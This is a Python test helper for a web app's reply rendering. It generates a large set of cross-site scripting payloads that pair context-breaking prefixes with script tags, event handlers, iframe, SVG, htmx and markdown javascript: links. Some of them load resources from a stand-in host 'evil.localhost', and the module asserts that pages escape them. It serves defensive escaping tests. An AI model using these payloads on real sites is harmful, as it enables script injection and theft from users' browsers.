"""Texts that would run a script, or reach another host, on a page that does not escape them: 250 and more."""

from __future__ import annotations

import httpx

from agents.types import Decision, Exclusion, Option, PlanView, Question, Reason, Receipt, Reply
from memory.evidence import Evidence

EVIL = "<img src=x onerror=alert(1)>\"'><script>alert(2)</script>"
"""One text for all: a test that cannot look into a browser looks for it unescaped."""

RAN = "window.ran=(window.ran||0)+1"
OUT = "http://evil.localhost:9/"

BREAKS = ("", '">', "'>", "</textarea>", "</title></script>", "-->", "`]]>")
"""How a text gets out of where it was put."""

TRICKS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={out}a.js></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}//",
    "<img src={out}a.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={out}></iframe>",
    "<object data={out}></object><embed src={out}>",
    "<video autoplay onloadstart={run}><source onerror={run} src=x></video>",
    "<audio src={out}a.mp3 autoplay></audio>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@import '{out}a.css';*{{background:url({out}b)}}</style>",
    "<link rel=stylesheet href={out}a.css><link rel=prefetch href={out}>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<base href={out}>",
    "<form action={out}><button autofocus formaction=javascript:{run}>x</button></form>",
    "<div hx-get={out} hx-trigger=load></div>",
    "<div hx-get=/ hx-trigger='load[{run}]' hx-on::load='{run}'></div>",
    "<div data-hx-get={out} data-hx-trigger=load sse-connect={out}></div>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<p style='background:url({out}c);animation:x' onanimationstart={run}>x</p>",
    "[x](javascript:{run})",
    "[x](<java\tscript:{run}>)",
    "![x]({out}a.png)",
    '![x](x"onerror={run})',
    "<javascript:{run}>",
    "[x]: javascript:{run}\n\n[x]",
)


def payloads() -> tuple[str, ...]:
    """Every trick behind every break."""
    return tuple(out + trick.format(run=RAN, out=OUT) for out in BREAKS for trick in TRICKS)


def replies_saying(text: str) -> list[Reply]:
    """Each kind of reply with every text of it this."""
    option = Option(
        id="c1",
        name=text,
        url="javascript:alert(3)",
        price=text,
        seen_at=text,
        fit=0.5,
        reasons=(Reason(text=text, evidence=("e",)),),
        tradeoffs=(text,),
    )
    evidence = Evidence(id="e", path=f"memory/{text}.md", lines=(1, 2), quote=text)
    out = Exclusion(name=text, reason=text, evidence=("e",))
    decision = Decision(top=option, backup=option, excluded=(out,), evidence=(evidence,))
    plan = PlanView(hash="ab" * 32, code=text, title=text, terms={text: text, "x": None}, steps=(text,), expires=text)
    receipt = Receipt(state="done", reference=text, terms={text: text}, screenshot=text, at=text, note=text)
    question = Question(detail="d", type="text", options=(text,), proposed=text)
    return [
        Reply(kind="question", text=text, question=question, trace=(text,)),
        Reply(kind="decision", text=text, decision=decision, task="t"),
        Reply(kind="plan", text=text, plan=plan, task="t"),
        Reply(kind="receipt", text=text, receipt=receipt, task="t"),
        Reply(kind="answer", text=text),
    ]


def assert_escaped(page: httpx.Response) -> None:
    """Nothing of `EVIL`, nor a link that runs, stands in the page as markup."""
    assert "<script>alert" not in page.text, page.url
    assert "<img src=x" not in page.text, page.url
    assert 'href="javascript' not in page.text, page.url
